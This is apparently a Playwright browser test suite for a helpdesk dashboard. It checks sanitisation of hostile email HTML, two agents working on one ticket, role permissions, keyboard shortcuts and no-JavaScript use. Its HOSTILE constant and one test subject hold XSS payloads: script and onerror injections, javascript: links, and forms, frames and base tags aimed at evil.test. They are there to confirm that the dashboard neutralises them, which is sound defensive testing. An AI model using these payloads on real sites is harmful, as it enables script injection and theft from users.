"""The dashboard in a real browser: hostile messages, two users of one ticket, roles, shortcuts, and no JavaScript."""

import pytest
from playwright.async_api import Browser, Page, Route, expect

from router.enumerations import Role
from tests.support import mails
from tests.support.browser import Window, find_axe_violations, open_window
from tests.support.installation.dashboard import create_user
from tests.support.installation.http import PASSWORD, ServedInstallation

pytestmark = pytest.mark.asyncio(loop_scope="session")

CLAIM_SEEN_MS = 1000
HOSTILE = """
<script>parent.hacked = 1; fetch("https://evil.test/script")</script>
<style>@import url(https://evil.test/style.css); body { background: url(https://evil.test/back.png); color: #123456 }
header, #main { display: none !important } p { position: fixed; top: -999px; height: 100vh }</style>
<img src="https://evil.test/pixel.gif" onerror="parent.hacked = 2"><img src=x onerror=alert(1)>
<a href="javascript:parent.hacked=3" id=j>Click</a> <a href="https://customer.test/">A link</a>
<form action="https://evil.test/form"><input name=q><button>Send</button></form>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object>
<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/">
<p>Readable <b>after all</b><div><table><tr><td>unclosed
<svg onload=alert(1)><math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)">
"""


async def sign_in(served: ServedInstallation, window: Window, role: Role, email: str | None = None) -> Page:
    address, _ = await create_user(served, role, email)
    page = await window.open(f"{served.root}/tickets/unassigned")
    await page.get_by_label("Email address").fill(address)
    await page.get_by_label("Password").fill(PASSWORD)
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_role("heading", level=1)).to_have_text("Unassigned tickets")
    await page.wait_for_load_state()
    return page


async def test_hostile_message_has_no_effect(site: ServedInstallation, window: Window) -> None:
    await site.create_alias()
    subject = '<img src="https://evil.test/s.png" onerror=alert(1)> {{ 7 * 7 }}'
    ticket = await site.accept_ticket(mails.html(subject=subject, markup=HOSTILE, message_id="<evil@customer.test>"))
    quoted = "Again.\n\nOn Tue, 1 Jan 2030 at 12:00, A <a@x.test> wrote:\n> <script>parent.hacked = 4</script>\n"
    await site.accept_message(mails.reply_to("<evil@customer.test>", text=quoted))
    page = await sign_in(site, window, "viewer")
    await page.get_by_role("link", name="onerror").click()
    await expect(page.get_by_role("heading", level=1)).to_contain_text("{{ 7 * 7 }}")
    await page.get_by_role("link", name="Show HTML").click()
    frame = page.frame_locator("iframe")
    await expect(frame.get_by_text("after all")).to_be_visible()
    await expect(frame.locator("body")).to_have_css("color", "rgb(18, 52, 86)")
    await expect(page.locator("#main")).to_be_visible()
    assert await frame.locator("script, form, iframe, object, svg, [onerror]").count() == 0
    assert await frame.locator("a[href^='javascript']").count() == 0
    assert await frame.get_by_role("link", name="A link").get_attribute("rel") == "noopener noreferrer nofollow"
    await page.get_by_role("link", name="Show quoted text (2 lines)").click()
    await expect(page.locator(".quoted")).to_contain_text("> <script>parent.hacked = 4</script>")
    await expect(page.get_by_text("Quoted text (2 lines)", exact=True)).to_be_focused()
    assert await find_axe_violations(page) == []
    assert await page.evaluate("window.hacked") is None
    # The frame fits its content. Its document belongs to the dashboard's origin, but runs no script.
    script = (
        "frame.contentDocument.head.append(Object.assign(document.createElement('script'), {text: 'top.hacked = 5'}))"
    )
    window.expect_error("the document's frame is sandboxed")
    heights = await page.evaluate(
        f"() => {{ const frame = document.querySelector('iframe'); {script};"
        " return [frame.clientHeight, Math.ceil(frame.contentDocument.body.getBoundingClientRect().height)] }"
    )
    assert heights[0] == heights[1] > 0
    assert await page.evaluate("window.hacked") is None
    # The HTML of a message also has an opaque origin when it is opened directly.
    view = await site.services.tickets.get(site.actor, ticket)
    await page.goto(f"{site.root}/tickets/{ticket}/messages/{view.messages[0].message.id}/html")
    await expect(page.get_by_text("after all")).to_be_visible()
    assert await page.evaluate("window.origin") == "null"


async def test_pictures_of_other_servers(site: ServedInstallation, window: Window) -> None:
    """Pictures are requested only after "Show pictures", without referrer and cookies. The frame grows with them."""
    await site.create_alias()
    picture = '<img src="https://pictures.test/a.svg" alt="Mill" width="500" height="400">'
    ticket = await site.accept_ticket(mails.html(markup=f"{picture}<p>Which colour?</p>"))
    requests: list[dict[str, str]] = []

    async def answer(route: Route) -> None:
        requests.append(await route.request.all_headers())
        svg = '<svg xmlns="http://www.w3.org/2000/svg" width="500" height="400"/>'
        await route.fulfill(content_type="image/svg+xml", body=svg)

    await window.context.route("https://pictures.test/**", answer)
    page = await sign_in(site, window, "viewer")
    await page.goto(f"{site.root}/tickets/{ticket}")
    frame = page.locator("iframe")
    await expect(frame.content_frame.get_by_text("Mill")).to_be_visible()
    await expect(frame).to_have_class("message-frame is-fitted")
    assert (requests, await frame.evaluate("frame => frame.clientHeight < 200")) == ([], True)
    window.hosts.add("pictures.test")
    await page.get_by_role("link", name="Show pictures").click()
    await expect(frame.content_frame.get_by_text("Which colour?")).to_be_in_viewport()
    await expect(frame).to_have_class("message-frame is-fitted")
    await page.wait_for_function("document.querySelector('iframe').clientHeight > 400")
    assert ["cookie" in headers or "referer" in headers for headers in requests] == [False]


async def test_two_users_at_one_ticket(site: ServedInstallation, window: Window, chromium_browser: Browser) -> None:
    await site.create_alias()
    async with open_window(chromium_browser) as second:
        ada, bob = (
            await sign_in(site, window, "agent", "ada@people.test"),
            await sign_in(site, second, "agent", "bob@people.test"),
        )
        await expect(ada.get_by_text("Every ticket has an assignee")).to_be_visible()
        await site.accept_ticket(mails.plain(subject="Stuck door"))
        for page in (ada, bob):
            await page.get_by_role("link", name="Stuck door").click()
            await expect(page.get_by_role("button", name="Assign to me")).to_be_visible()
            await page.wait_for_load_state()
        async with ada.expect_navigation():
            await ada.get_by_role("button", name="Assign to me").click()
        await expect(bob.get_by_text("Agent took the ticket")).to_be_visible(timeout=CLAIM_SEEN_MS)
        await expect(bob.get_by_role("button", name="Take over")).to_be_visible()
        await bob.keyboard.press("a")
        await expect(bob.get_by_text("Ticket assigned to you.")).to_be_visible()
        await expect(ada.get_by_text("2 changes, ")).to_be_visible(timeout=CLAIM_SEEN_MS)
        await ada.get_by_text("2 changes, ").click()
        await expect(ada.get_by_text("Agent took over the ticket from Agent")).to_be_visible()
        await ada.get_by_role("button", name="Resolve").click()
        await expect(ada.get_by_text("Resolved #1.")).to_be_visible()
        await expect(bob.locator(".state")).to_contain_text("Resolved")


async def test_losing_claim_shows_an_error(site: ServedInstallation, chromium_browser: Browser) -> None:
    await site.create_alias()
    ticket = await site.accept_ticket()
    async with open_window(chromium_browser, javascript=False) as window:
        page = await sign_in(site, window, "agent")
        await page.goto(f"{site.root}/tickets/{ticket}")
        await site.services.tickets.claim(site.actor, ticket)
        window.expect_error("409")
        await page.get_by_role("button", name="Assign to me").click()
        await expect(page.get_by_role("alert")).to_contain_text("already assigned to another user")


@pytest.mark.parametrize("role", ["viewer", "agent"])
async def test_forbidden_actions_are_hidden_and_rejected(site: ServedInstallation, window: Window, role: Role) -> None:
    _, integration, alias = await site.create_alias()
    ticket = await site.accept_ticket()
    page = await sign_in(site, window, role)
    await page.goto(f"{site.root}/tickets/{ticket}")
    await expect(page.get_by_role("button", name="Assign to me")).to_have_count(0 if role == "viewer" else 1)
    for path in ("domains", "aliases", "integrations", "users", "keys", "workspace", f"aliases/{alias}"):
        await page.goto(f"{site.root}/manage/{path}")
        await expect(page.locator("main form[method=post], main .danger")).to_have_count(0)
    window.expect_error("403")
    for path in ("/set-up", "/activity/audit", f"/manage/integrations/{integration}/delete"):
        await page.goto(site.root + path)
        await expect(page.get_by_role("heading", level=1)).to_have_text("Permission denied")
        await expect(page.get_by_text(f"Requires the role admin; your role is {role}.")).to_be_visible()


async def test_role_lost_while_page_is_open(site: ServedInstallation, window: Window) -> None:
    await site.create_alias()
    ticket = await site.accept_ticket()
    page = await sign_in(site, window, "agent", "bob@people.test")
    await page.goto(f"{site.root}/tickets/{ticket}")
    (bob,) = (user for user in (await site.services.users.list(site.actor)).items if user.email == "bob@people.test")
    await site.services.users.change(site.actor, bob.id, role="viewer")
    window.expect_error("403")
    await page.get_by_role("button", name="Assign to me").click()
    await expect(page.get_by_role("heading", level=1)).to_have_text("Permission denied")
    assert (await site.services.tickets.get(site.actor, ticket)).ticket.assigned_to is None


async def test_keyboard_shortcuts(site: ServedInstallation, window: Window) -> None:
    await site.create_alias()
    for subject in ("First", "Second"):
        await site.accept_ticket(mails.plain(subject=subject))
    page = await sign_in(site, window, "agent")
    await page.keyboard.press("?")
    await expect(page.get_by_role("dialog")).to_be_visible()
    assert await find_axe_violations(page) == []
    await page.keyboard.press("Escape")
    for key in "jjk":
        await page.keyboard.press(key)
    await expect(page.get_by_role("link", name="Second")).to_be_focused()
    for key in ("x", "j", "Shift+x"):
        await page.keyboard.press(key)
    await expect(page.locator("#selected-count")).to_have_text("2 selected")
    await page.keyboard.press("Escape")
    await expect(page.locator("#selected-count")).to_be_hidden()
    await page.keyboard.press("/")
    await page.keyboard.type("second")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("link", name="First")).to_have_count(0)
    for key in ("g", "i"):
        await page.keyboard.press(key)
    await expect(page.get_by_role("link", name="First")).to_be_visible()
    await page.wait_for_load_state()
    await page.keyboard.press("j")
    await expect(page.get_by_role("link", name="Second")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("heading", level=1)).to_contain_text("Second")
    await page.keyboard.press("j")
    await expect(page.get_by_role("heading", level=1)).to_contain_text("First")
    await page.keyboard.press("k")
    await expect(page.get_by_role("heading", level=1)).to_contain_text("Second")
    await page.keyboard.press("a")
    await expect(page.get_by_text("Ticket assigned to you.")).to_be_visible()
    await page.keyboard.press("n")
    await page.keyboard.type("just a note, e is no key here")
    await page.keyboard.press("Control+Enter")
    await expect(page.locator(".internal-note")).to_contain_text("e is no key here")
    await page.keyboard.press("e")
    await expect(page.get_by_text("Resolved #2.")).to_be_visible()
    await expect(page.get_by_role("heading", level=1)).to_contain_text("First")
    await page.keyboard.press("z")
    await expect(page.get_by_text("Change undone.")).to_be_visible()
    await expect(page.get_by_role("heading", level=1)).to_contain_text("Second")
    await expect(page.locator(".state")).to_contain_text("In progress")
    await page.keyboard.press("?")
    await page.get_by_label("Enable shortcuts").uncheck()
    await page.keyboard.press("Escape")
    await page.keyboard.press("e")
    await expect(page.locator(".state")).to_contain_text("In progress")


async def test_without_javascript(site: ServedInstallation, chromium_browser: Browser) -> None:
    await site.create_alias()
    await site.accept_ticket(mails.reply_to("<unknown@customer.test>", subject="Stuck door"))
    async with open_window(chromium_browser, javascript=False) as window:
        page = await sign_in(site, window, "agent")
        await page.get_by_role("link", name="Stuck door").click()
        await page.get_by_role("button", name="Assign to me").click()
        await expect(page.get_by_text("Ticket assigned to you.")).to_be_visible()
        await page.get_by_role("link", name="Show quoted text (2 lines)").click()
        await expect(page.get_by_text("> Have you tried the key?")).to_be_visible()
        await page.locator(".rail .menu summary").click()
        await page.get_by_role("button", name="Sign out").click()
        await expect(page.get_by_text("You are signed out.")).to_be_visible()


async def test_a_filter_chosen_with_a_pointer_is_applied(site: ServedInstallation, window: Window) -> None:
    """Arrow keys pass over the other choices, so the keyboard alone submits nothing."""
    page = await sign_in(site, window, "viewer")
    await page.goto(f"{site.root}/manage/users?role=viewer")
    await page.evaluate("""() => document.addEventListener("submit", (event) => {
      event.preventDefault();
      document.body.dataset.submits = Number(document.body.dataset.submits ?? 0) + 1;
    })""")
    await page.keyboard.press("Tab")
    await page.get_by_label("Status", exact=True).select_option("active")
    assert await page.locator("body").get_attribute("data-submits") is None
    await page.get_by_role("heading", level=1).click()
    await page.get_by_label("Status", exact=True).select_option("invited")
    assert await page.locator("body").get_attribute("data-submits") == "1"
